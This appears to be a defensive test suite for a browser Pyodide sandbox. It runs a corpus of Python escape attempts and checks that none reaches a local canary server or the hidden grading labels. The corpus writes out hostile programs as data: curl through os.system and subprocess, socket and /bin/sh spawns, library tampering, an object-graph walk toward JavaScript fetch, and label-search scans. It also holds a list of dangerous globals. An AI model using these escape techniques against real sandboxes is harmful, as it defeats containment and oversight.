// The escape corpus: programs that try to leave the sandbox, and what must hold while they run, in
// one place for every way the app can be hosted. tests/sandbox/escape.test.ts runs it on the
// project's own server, tests/e2e/static-host.test.ts on a header-less host (the service worker adds
// the headers), tests/e2e/isolation-only-host.test.ts on a host that sends the isolation headers but
// not the worker's CSP (the sandbox must refuse every program there). A canary HTTP server on
// 127.0.0.1 must hear nothing in every mode. The labels are real: the page loads a task's hidden
// labels as the app's grader does, the jobs get that task's program inputs, and a control shows the
// label searches do find labels leaked into a job.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { builtWorkerScript, harnessPool, job, taskFiles, type SandboxSession } from './harness.ts';
import { bridgeImportProgram, type Canary } from '../e2e/canary.ts';
import type { SandboxFiles } from '../../src/sandbox-pyodide/protocol.ts';
import { SANDBOX_WORKER_CSP } from '../../src/sandbox-pyodide/worker-csp.ts';

// A suite task whose hidden test labels the page holds while the corpus runs on its inputs.
const LABEL_TASK = 'vega_cars';

/** How the hidden labels would look if they leaked: a run of them as JSON, CSV column or list. */
function labelNeedles(labels: readonly string[]): string[] {
  const run = labels.slice(0, 8);
  return [JSON.stringify(run).slice(1, -1), run.join('\n'), run.join(',')];
}

/** The page holds the task's hidden labels, as the Playground and the Train view hold them to grade. */
async function holdLabels(page: Page): Promise<string[]> {
  return page.evaluate(async (id) => {
    const res = await fetch(`tasks/${id}/labels.json`);
    if (!res.ok) throw new Error(`labels of ${id}: HTTP ${res.status}`);
    const held = (await res.json()) as { labels: string[] };
    (globalThis as unknown as { heldLabels: unknown }).heldLabels = held;
    return held.labels;
  }, LABEL_TASK);
}

// Finds every JavaScript proxy a program can reach without imports, and tries to use it.
const JS_WALK = String.raw`
import sys
seen, found, todo = set(), [], []
def visit(o):
    if id(o) in seen: return
    seen.add(id(o))
    t = type(o).__name__
    if t.startswith('Js') or 'JsProxy' in t:
        found.append(o); return
    todo.append(o)
for c in object.__subclasses__(): visit(c)
for m in list(sys.modules.values()):
    if m is not None: visit(m)
f = sys._getframe()
while f is not None:
    visit(f.f_globals); visit(f.f_locals); f = f.f_back
steps = 0
while todo and steps < 200000:
    o = todo.pop(); steps += 1
    try:
        if isinstance(o, type):
            for sub in type.__subclasses__(o) if o is not type else []: visit(sub)
            for v in list(vars(o).values()): visit(v)
        elif isinstance(o, dict):
            for v in list(o.values()): visit(v)
        elif isinstance(o, (list, tuple, set, frozenset)):
            for v in list(o): visit(v)
        elif type(o).__name__ == 'module':
            for v in list(vars(o).values()): visit(v)
        elif hasattr(o, '__code__'):
            visit(getattr(o, '__globals__', None) or {})
            for cell in (o.__closure__ or ()):
                try: visit(cell.cell_contents)
                except ValueError: pass
        elif hasattr(o, '__func__'):
            visit(o.__func__)
        elif hasattr(o, '__dict__') and isinstance(o.__dict__, dict):
            for v in list(o.__dict__.values()): visit(v)
    except Exception:
        pass
print('walked', steps, 'js proxies', len(found))
for p in found:
    for name in ('fetch', 'XMLHttpRequest', 'WebSocket', 'postMessage', 'importScripts', 'indexedDB',
                 'caches', 'Worker', 'navigator', 'EventSource', 'BroadcastChannel', 'globalThis', 'self'):
        try:
            v = getattr(p, name)
            if v is not None:
                print('ESCAPED', name)
                try: v(CANARY + '/walk-' + name)
                except Exception as e: pass
        except Exception:
            pass
    try:
        g = p.constructor.constructor('return globalThis')()
        print('ESCAPED Function constructor')
        g.fetch(CANARY + '/walk-function')
    except Exception:
        pass
`;

/** Every attempt, as [name, program]; each prints ESCAPED where it gets out. */
export function escapeCorpus(canary: string, needles: readonly string[]): [string, string][] {
  const head = `CANARY = ${JSON.stringify(canary)}\nNEEDLES = ${JSON.stringify(needles)}\n`;
  const list: [string, string][] = [
    ['js module fetch', 'import js\njs.fetch(CANARY + "/js")\nprint("ESCAPED")'],
    ['from js import', 'from js import fetch, XMLHttpRequest\nfetch(CANARY + "/fromjs")\nprint("ESCAPED")'],
    ['pyodide.http pyfetch', 'from pyodide.http import pyfetch\nprint("ESCAPED")'],
    ['pyodide.http open_url', 'import pyodide.http\npyodide.http.open_url(CANARY + "/open_url")\nprint("ESCAPED")'],
    ['pyodide.ffi', 'import pyodide.ffi\nprint("ESCAPED")'],
    ['pyodide_js', 'import pyodide_js\nprint("ESCAPED")'],
    ['_pyodide_core', 'import _pyodide_core\nprint("ESCAPED")'],
    ['_pyodide internals', 'import _pyodide._base\nprint("ESCAPED")'],
    ['micropip', 'import micropip\nprint("ESCAPED")'],
    ['ctypes', 'import ctypes\nprint("ESCAPED")'],
    ['socket', 'import socket\ns = socket.create_connection(("127.0.0.1", int(CANARY.rsplit(":", 1)[1])))\nprint("ESCAPED")'],
    ['os.system', 'import os\nos.system("curl " + CANARY + "/system")\nprint("ESCAPED")'],
    ['subprocess', 'import subprocess\nsubprocess.run(["curl", CANARY + "/subprocess"])\nprint("ESCAPED")'],
    ['os.posix_spawn', 'import os\nos.posix_spawn("/bin/sh", ["sh"], {})\nprint("ESCAPED")'],
    ['urllib.request', 'import urllib.request\nurllib.request.urlopen(CANARY + "/urllib")\nprint("ESCAPED")'],
    ['http.client', 'import http.client\nhttp.client.HTTPConnection("127.0.0.1").request("GET", "/")\nprint("ESCAPED")'],
    ['asyncio', 'import asyncio\nprint("ESCAPED")'],
    ['multiprocessing', 'import multiprocessing\nmultiprocessing.Process(target=print).start()\nprint("ESCAPED")'],
    ['threading', 'import threading\nt = threading.Thread(target=print)\nt.start()\nprint("ESCAPED")'],
    ['webbrowser', 'import webbrowser\nwebbrowser.open(CANARY + "/wb")\nprint("ESCAPED")'],
    ['sys.modules surgery', 'import sys\nsys.modules.pop("js", None)\nsys.modules.pop("pyodide", None)\nimport js\nprint("ESCAPED")'],
    ['meta_path cleared', 'import sys\nsys.meta_path[:] = [m for m in sys.meta_path if "Block" not in getattr(m, "__name__", "")]\nsys.modules.pop("js", None)\nimport js\nprint("ESCAPED")'],
    ['importlib.import_module', 'import importlib, sys\nsys.modules.pop("js", None)\nimportlib.import_module("js")\nprint("ESCAPED")'],
    ['__import__ ffi', '__import__("pyodide.ffi")\nprint("ESCAPED")'],
    ['BuiltinImporter', 'import importlib.machinery as m\nspec = m.BuiltinImporter.find_spec("_pyodide_core")\nmod = m.BuiltinImporter.create_module(spec)\nprint("ESCAPED", mod)'],
    ['_bootstrap builtin', 'import importlib._bootstrap as b\nb._builtin_from_name("_pyodide_core")\nprint("ESCAPED")'],
    ['extra audit hook', 'import sys\nsys.addaudithook(lambda *a: None)\nsys.modules.pop("js", None)\nimport js\nprint("ESCAPED")'],
    ['gc referrers', 'import gc\nprint("ESCAPED", len(gc.get_objects()))'],
    ['signal', 'import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nprint("ESCAPED")'],
    ['code object forging', 'c = (lambda: 0).__code__.replace(co_consts=(1,))\nprint("ESCAPED")'],
    ['tamper stdlib zip', 'import glob\np = glob.glob("/lib/python3*.zip")[0]\nopen(p, "wb").write(b"")\nprint("ESCAPED")'],
    ['tamper sandbox library', 'import os\nos.makedirs("/lib/sandbox", exist_ok=True)\nopen("/lib/sandbox/evil.py", "w").write("x=1")\nprint("ESCAPED")'],
    ['rename into library', 'open("x.py", "w").write("x=1")\nimport os\nos.rename("x.py", "/lib/sandbox/x.py")\nprint("ESCAPED")'],
    ['walk to JavaScript', JS_WALK],
    // The issue-27 escape: only the worker's CSP stops it (no eval, no import from elsewhere).
    ['bridge import', bridgeImportProgram(`${canary}/bridge-import.js`) + 'print("ESCAPED")\n'],
    ['frame walk to runner', 'import sys\nf = sys._getframe()\nwhile f:\n    for k, v in list(f.f_globals.items()) + list(f.f_locals.items()):\n        if "Js" in type(v).__name__:\n            print("ESCAPED", k)\n    f = f.f_back\n'],
    ...LABEL_SEARCHES,
  ];
  return list.map(([name, src]) => [name, head + src]);
}

// Each prints ESCAPED when it finds the labels (the control below shows they can).
const LABEL_SEARCHES: [string, string][] = [
  ['find the labels', `import os, json\nhits = []\nfor root, dirs, files in os.walk("/"):\n    if root.startswith(("/proc", "/dev", "/lib/python")): continue\n    for n in files:\n        try:\n            data = open(os.path.join(root, n), "rb").read()\n            if any(k.encode() in data for k in NEEDLES): hits.append(os.path.join(root, n))\n        except Exception: pass\nprint("files", sorted(os.listdir(".")))\nif hits: print("ESCAPED", hits)\n`],
  ['labels in environment, task.json or memory', `import os, json, sys\nt = open("task.json").read()\ntexts = [t, str(os.environ)] + [repr(v)[:100000] for m in list(sys.modules.values()) if m is not None for v in list(vars(m).values()) if isinstance(v, (str, bytes, list, dict, tuple))]\nif any(k in x for k in NEEDLES for x in texts) or "labels" in json.loads(t): print("ESCAPED")\n`],
];


// Written out here on purpose, not taken from worker-lockdown.ts: a name dropped from the
// lock-down's list must turn this red. Everything that can reach the network, storage, other
// contexts or run code later.
const DANGEROUS_GLOBALS = [
  'fetch', 'fetchLater', 'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'WebTransport', 'EventSource',
  'RTCPeerConnection', 'RTCDataChannel', 'Request', 'importScripts', 'Worker', 'SharedWorker', 'ServiceWorker',
  'navigator', 'navigator.sendBeacon', 'navigator.serviceWorker', 'navigator.storage', 'BroadcastChannel',
  'MessageChannel', 'MessagePort', 'postMessage', 'onmessage', 'addEventListener', 'indexedDB', 'caches',
  'localStorage', 'sessionStorage', 'cookieStore', 'webkitRequestFileSystem', 'webkitRequestFileSystemSync',
  'FileSystemSyncAccessHandle', 'StorageManager', 'Notification', 'PushManager', 'BackgroundFetchManager',
  'setTimeout', 'setInterval', 'queueMicrotask', 'requestAnimationFrame', 'scheduler', 'close', 'gpu',
];

/** A harness page (sandbox.html, loaded, its pool not started) on one host, and the canary its programs aim at. */
export interface CorpusHost {
  page: Page;
  canary: Canary;
  /** Ends what `open` started. */
  close(): Promise<void>;
}

function canaryCheck(host: () => CorpusHost): void {
  it('the canary is reachable from the test process (so silence means something)', async () => {
    const { canary } = host();
    const res = await fetch(`${canary.url}/self-check`);
    expect(res.status).toBe(200);
    await res.text();
    expect(canary.hits.splice(0)).toContain('GET /self-check');
  });
}

/** Where a program did run, the time its stray request gets to land before the canary is judged. */
const STRAY_REQUEST_MS = 3000;

/**
 * The tests for a host where the sandbox runs: call inside a describe; `open` gives the host's
 * harness page once the describe's own set-up has run. Every corpus program fails to escape, the
 * canary hears nothing, no worker holds a dangerous global, and the labels reach no job.
 */
export function corpusHolds(open: () => Promise<CorpusHost>): void {
  let host: CorpusHost | undefined;
  let pool: Pick<SandboxSession, 'start' | 'run' | 'runMany' | 'stats'>;
  let files: SandboxFiles;
  let labels: string[] = [];
  const opened = (): CorpusHost => {
    if (!host) throw new Error('corpusHolds: the host is read before beforeAll ran');
    return host;
  };
  beforeAll(async () => {
    host = await open();
    pool = harnessPool(host.page);
    await pool.start({ size: 2 });
    files = taskFiles(LABEL_TASK);
    labels = await holdLabels(host.page);
  });
  afterAll(async () => {
    await host?.close();
  });

  canaryCheck(opened);

  it('the worker script comes with the sandbox CSP', async () => {
    const csp = await opened().page.evaluate(async (url) => (await fetch(url)).headers.get('content-security-policy'), builtWorkerScript());
    expect(csp).toBe(SANDBOX_WORKER_CSP);
    expect(SANDBOX_WORKER_CSP).toContain("connect-src 'none'");
  });

  it('blocks every attempt in the corpus, and the canary hears nothing', async () => {
    const { canary } = opened();
    const attempts = escapeCorpus(canary.url, labelNeedles(labels));
    expect(attempts.length).toBeGreaterThanOrEqual(30);
    expect(labels.length).toBeGreaterThan(30);
    const results = await pool.runMany(attempts.map(([, src]) => job(src, 20_000, files)));
    const report = results.map((r, i) => ({ name: attempts[i][0], status: r.status, out: r.stdout.slice(0, 300), tb: (r.traceback ?? '').split('\n').slice(-2).join(' ') }));
    for (const r of report) {
      expect(r.out, `${r.name}: ${r.tb}`).not.toContain('ESCAPED');
    }
    // Plain import attempts fail with the sandbox's own message, not by accident.
    for (const name of ['js module fetch', 'pyodide.ffi', 'ctypes', 'socket', 'subprocess', 'micropip', 'asyncio']) {
      const r = report.find((x) => x.name === name);
      expect(r?.status, name).toBe('error');
      expect(r?.tb, name).toMatch(/sandbox: |ImportError|ModuleNotFoundError/);
    }
    for (const name of ['tamper stdlib zip', 'tamper sandbox library', 'rename into library', 'os.system', 'code object forging']) {
      const r = report.find((x) => x.name === name);
      expect(r?.status, name).toBe('error');
      expect(r?.tb, name).toMatch(/PermissionError|sandbox: /);
    }
    // The bridge is reachable; the CSP is what refuses the string it would evaluate.
    const bridge = report.find((x) => x.name === 'bridge import');
    expect(bridge?.status).toBe('error');
    expect(bridge?.tb).toMatch(/EvalError|unsafe-eval|Content Security Policy/i);
    const walk = report.find((x) => x.name === 'walk to JavaScript');
    expect(walk?.status).toBe('ok');
    expect(walk?.out).toMatch(/walked \d+ js proxies \d+/);
    await new Promise((r) => setTimeout(r, STRAY_REQUEST_MS));
    expect(canary.hits).toEqual([]);
    const st = await pool.stats();
    expect(st.ignoredMessages).toBe(0);
    expect(st.settled).toBe(st.submitted);
  });

  it('a worker reaches none of the dangerous globals, before or after a program that uses the JavaScript bridge', async () => {
    const program = "import sys, importlib.util\nfor f in sys.meta_path:\n    try:\n        spec = f.find_spec('pyodide_js', None)\n    except Exception:\n        continue\n    if spec:\n        pj = importlib.util.module_from_spec(spec)\n        print('bridge', type(pj).__name__)\n        break\n";
    const results = await pool.runMany([0, 1].map(() => ({ ...job(program), probeGlobals: DANGEROUS_GLOBALS })));
    for (const r of results) {
      expect(r.status, r.traceback).toBe('ok');
      expect(r.globalsPresent).toEqual([]);
    }
    // The probe itself works: names every worker has are reported.
    const [control] = await pool.runMany([{ ...job('pass\n'), probeGlobals: ['WebAssembly', 'Atomics', 'WebAssembly.Memory'] }]);
    expect(control.globalsPresent).toEqual(['WebAssembly', 'Atomics', 'WebAssembly.Memory']);
  });

  it('the label searches find labels that do reach a job (so their silence above means something)', async () => {
    const needles = labelNeedles(labels);
    // Nothing in the real inputs looks like the labels...
    for (const text of Object.values(files)) for (const k of needles) expect(text).not.toContain(k);
    // ...and a job whose inputs carry them is caught by every search.
    const leaked: SandboxFiles = { ...files, 'task.json': JSON.stringify({ ...JSON.parse(files['task.json']), labels }) };
    const head = `NEEDLES = ${JSON.stringify(needles)}\n`;
    const results = await pool.runMany(LABEL_SEARCHES.map(([, src]) => job(head + src, 20_000, leaked)));
    for (const [i, r] of results.entries()) expect(r.stdout, LABEL_SEARCHES[i][0]).toContain('ESCAPED');
  });

  it('still serves correct results after the corpus', async () => {
    const r = await pool.run(job("import csv\nrows = list(csv.DictReader(open('test.csv')))\nopen('predictions.csv','w').write('prediction\\n' + '\\n'.join('1' for _ in rows) + '\\n')\n"));
    expect(r.status).toBe('ok');
    expect(r.predictionsCsv).toBe('prediction\n1\n1\n1\n1\n1\n');
  });
}

/**
 * The tests for a host where the sandbox must not run (its worker CSP is missing): every corpus
 * program is refused with the message that names the header, none runs, and the canary hears
 * nothing. Each program is tried as the Playground tries a run: start the pool (a failed start is
 * forgotten, so every program meets the start-up check afresh), then run on the started pool.
 */
export function corpusRefused(open: () => Promise<CorpusHost>): void {
  let host: CorpusHost | undefined;
  const opened = (): CorpusHost => {
    if (!host) throw new Error('corpusRefused: the host is read before beforeAll ran');
    return host;
  };
  beforeAll(async () => {
    host = await open();
  });
  afterAll(async () => {
    await host?.close();
  });

  canaryCheck(opened);

  it('refuses every program in the corpus with the message that names the missing header, and the canary hears nothing', async () => {
    const { page, canary } = opened();
    const labels = await holdLabels(page);
    const attempts = escapeCorpus(canary.url, labelNeedles(labels));
    const files = taskFiles(LABEL_TASK);
    let lateJob = '';
    const outcomes = await page.evaluate(async (jobs) => {
      const out: ({ refused: string } | { ran: string })[] = [];
      for (const [i, j] of jobs.entries()) {
        try {
          // Two runs per worker, so that where the guard were missing the worker would outlive the job long enough to send its request.
          await window.sandbox.start({ size: 1, maxRunsPerWorker: 2 });
        } catch (e) {
          out.push({ refused: e instanceof Error ? e.message : String(e) });
          continue;
        }
        // A pool that did start is kept, as the Playground keeps it: the rest of the corpus runs on it.
        for (const r of await window.sandbox.runMany(jobs.slice(i))) out.push({ ran: `${r.status}: ${r.stdout} ${r.traceback ?? ''}` });
        break;
      }
      // A job given to the pool that failed to start still ends, at once, with the reason.
      const late = await window.sandbox.run(jobs[0]);
      window.sandbox.close();
      return { out, late: `${late.status}: ${late.reason ?? ''}` };
    }, attempts.map(([, src]) => job(src, 20_000, files))).then((r) => {
      lateJob = r.late;
      return r.out;
    });
    if (outcomes.some((o) => 'ran' in o)) await page.waitForTimeout(STRAY_REQUEST_MS);
    expect(canary.hits, 'requests the canary received').toEqual([]);
    expect(outcomes).toHaveLength(attempts.length);
    for (const [i, o] of outcomes.entries()) {
      const name = attempts[i][0];
      expect(o, name).toHaveProperty('refused');
      const refused = (o as { refused: string }).refused;
      expect(refused, name).toContain('Content-Security-Policy is not in force');
      expect(refused, name).toContain(SANDBOX_WORKER_CSP);
    }
    expect(lateJob).toMatch(/^killed: the sandbox pool did not start: .*Content-Security-Policy is not in force/);
  }, 600_000);
}
